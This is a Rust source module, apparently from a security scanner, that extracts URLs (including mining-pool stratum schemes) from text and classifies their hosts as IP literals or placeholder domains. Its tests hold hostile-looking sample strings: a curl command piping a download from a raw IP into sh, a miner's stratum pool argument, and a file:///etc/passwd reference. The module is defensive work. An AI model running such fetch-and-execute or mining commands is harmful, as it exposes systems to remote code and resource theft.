//! Finding URLs in text and taking them apart, without a full URL parser: skill text is full of
//! half-URLs in shell quoting, and all rules need is the host and the path.

/// `(offset, url)` for every `http(s)://`, `ftp://` or `stratum+tcp://` URL in `text`.
pub fn find_urls(text: &str) -> impl Iterator<Item = (usize, &str)> + '_ {
    let bytes = text.as_bytes();
    memchr::memmem::find_iter(bytes, b"://").filter_map(move |sep| {
        let scheme_start = text[..sep]
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
            .last()
            .map(|(i, _)| i)?;
        let scheme = &text[scheme_start..sep];
        if !matches!(
            scheme.to_ascii_lowercase().as_str(),
            "http" | "https" | "ftp" | "ftps" | "stratum+tcp" | "stratum+ssl" | "ws" | "wss"
        ) {
            return None;
        }
        let end = text[sep + 3..]
            .char_indices()
            .find(|(_, c)| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '}' | '|' | '\\' | '^')
            })
            .map_or(text.len(), |(i, _)| sep + 3 + i);
        let url = text[scheme_start..end].trim_end_matches(['.', ',', ';', ':']);
        (url.len() > scheme.len() + 3).then_some((scheme_start, url))
    })
}

/// Host (lowercase, without port or credentials) and path (with query) of a URL, or of a bare
/// `host/path` string.
pub fn host_and_path(url: &str) -> Option<(String, String)> {
    let rest = match url.find("://") {
        Some(i) => &url[i + 3..],
        None => url,
    };
    let (authority, path) = match rest.find(['/', '?', '#']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.split(']').next().map(|h| h.trim_start_matches('['))?
    } else {
        host_port.split(':').next()?
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    let valid = !host.is_empty()
        && host.len() <= 253
        && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '$' | '{' | '}'));
    valid.then(|| (host, path.to_string()))
}

/// Whether a host is a literal IPv4 or IPv6 address.
pub fn is_ip(host: &str) -> bool {
    host.parse::<std::net::IpAddr>().is_ok()
}

/// Destinations written as templates for the reader's own server (`your-domain.com`,
/// `<host>`, `example.com`, `wiki.company.com`): documentation of a setup, not an address to
/// send to. Only documents may use this as an excuse: in code a "placeholder" host is a host.
pub fn is_placeholder_host(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    let documentation = ["example.com", "example.org", "example.net", "company.com"]
        .iter()
        .any(|d| h == *d || h.ends_with(&format!(".{d}")));
    h.starts_with("your")
        || h.contains('<')
        || documentation
        || h == "localhost"
        || h.starts_with("127.")
        || h.starts_with("my-")
        || h.starts_with("mydomain")
}

/// Hosts reserved for documentation (RFC 2606): nobody can receive what is sent there.
pub fn is_reserved_example_host(host: &str) -> bool {
    let h = host.to_ascii_lowercase();
    ["example.com", "example.org", "example.net"].iter().any(|d| h == *d || h.ends_with(&format!(".{d}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_urls_in_shell_and_markdown() {
        let text = "curl -fsSL \"https://203.0.113.7/k9x2\" | sh; see [docs](https://docs.example.com/a?b=1).";
        let urls: Vec<_> = find_urls(text).map(|(_, u)| u).collect();
        assert_eq!(urls, ["https://203.0.113.7/k9x2", "https://docs.example.com/a?b=1"]);
        let miner: Vec<_> = find_urls("-o stratum+tcp://pool.example.invalid:3333 -u W").map(|(_, u)| u).collect();
        assert_eq!(miner, ["stratum+tcp://pool.example.invalid:3333"]);
        assert_eq!(find_urls("file:///etc/passwd and ://nothing").count(), 0);
    }

    #[test]
    fn splits_host_and_path() {
        assert_eq!(
            host_and_path("https://user:pw@Sub.Example.COM:8443/p/x?q=1"),
            Some(("sub.example.com".into(), "/p/x?q=1".into()))
        );
        assert_eq!(host_and_path("bun.sh/install"), Some(("bun.sh".into(), "/install".into())));
        assert!(is_ip("203.0.113.9"));
        assert!(!is_ip("example.com"));
    }
}
